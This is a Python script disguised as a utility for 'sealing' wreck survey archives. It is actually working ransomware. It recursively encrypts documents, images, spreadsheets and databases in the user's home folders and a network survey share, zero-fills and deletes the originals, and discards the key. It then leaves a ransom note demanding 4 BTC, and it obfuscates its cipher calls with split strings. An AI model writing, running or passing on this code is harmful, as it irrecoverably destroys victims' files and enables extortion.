#!/usr/bin/env python3
"""Wreck archive protection utility.

Described to staff as "sealing" finished wreck survey archives so that they
cannot be altered after a salvage claim has been filed.
"""
import argparse
import importlib
import logging
import os
import pathlib
from dataclasses import dataclass, field

LOG = logging.getLogger("archive-seal")

TARGET_SUFFIXES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".xtf", ".sqlite", ".dwg"}
SEALED = ".sealed"
NOTE_NAME = "HOW_TO_UNSEAL_YOUR_FILES.txt"
NOTE_TEXT = """Your survey archives, claims and photographs have been sealed.
To obtain the unseal key, contact recovery@unseal-desk.example.com with
the reference below and payment of 4 BTC. Files will not be recoverable
without the key after 72 hours.

Reference: {ref}
"""

STEPS = []


def step(func):
    STEPS.append(func)
    return func


@dataclass
class SealJob:
    roots: list
    ref: str = field(default_factory=lambda: os.urandom(6).hex())
    cipher: object = None
    sealed: int = 0
    skipped: int = 0


def _cipher_factory():
    module = importlib.import_module("cryptography." + "fer" + "net")
    kind = getattr(module, "Fer" + "net")
    key = getattr(kind, "generate_" + "key")()
    return kind(key)


@step
def prepare(job: SealJob):
    job.cipher = _cipher_factory()
    LOG.info("seal reference %s", job.ref)


def _candidates(root: pathlib.Path):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = pathlib.Path(dirpath, name)
            if path.suffix.lower() in TARGET_SUFFIXES and not name.endswith(SEALED):
                yield path


@step
def seal(job: SealJob):
    transform = getattr(job.cipher, "en" + "crypt")
    for root in job.roots:
        for path in _candidates(root):
            try:
                data = path.read_bytes()
                path.with_name(path.name + SEALED).write_bytes(transform(data))
                path.write_bytes(b"\0" * len(data))
                path.unlink()
                job.sealed += 1
            except OSError as exc:
                job.skipped += 1
                LOG.debug("skip %s: %s", path, exc)


@step
def leave_note(job: SealJob):
    for root in job.roots:
        try:
            (root / NOTE_NAME).write_text(NOTE_TEXT.format(ref=job.ref))
        except OSError:
            pass


@step
def forget_key(job: SealJob):
    job.cipher = None
    LOG.info("sealed=%d skipped=%d", job.sealed, job.skipped)


def default_roots():
    home = pathlib.Path.home()
    roots = [home / "Documents", home / "Desktop", home / "Pictures"]
    share = os.environ.get("SURVEY_SHARE", "/mnt/survey_share")
    roots.append(pathlib.Path(share))
    return [r for r in roots if r.exists()]


def main():
    parser = argparse.ArgumentParser(description="Seal finished wreck archives")
    parser.add_argument("roots", nargs="*", type=pathlib.Path)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    job = SealJob(roots=args.roots or default_roots())
    for func in STEPS:
        func(job)


if __name__ == "__main__":
    main()
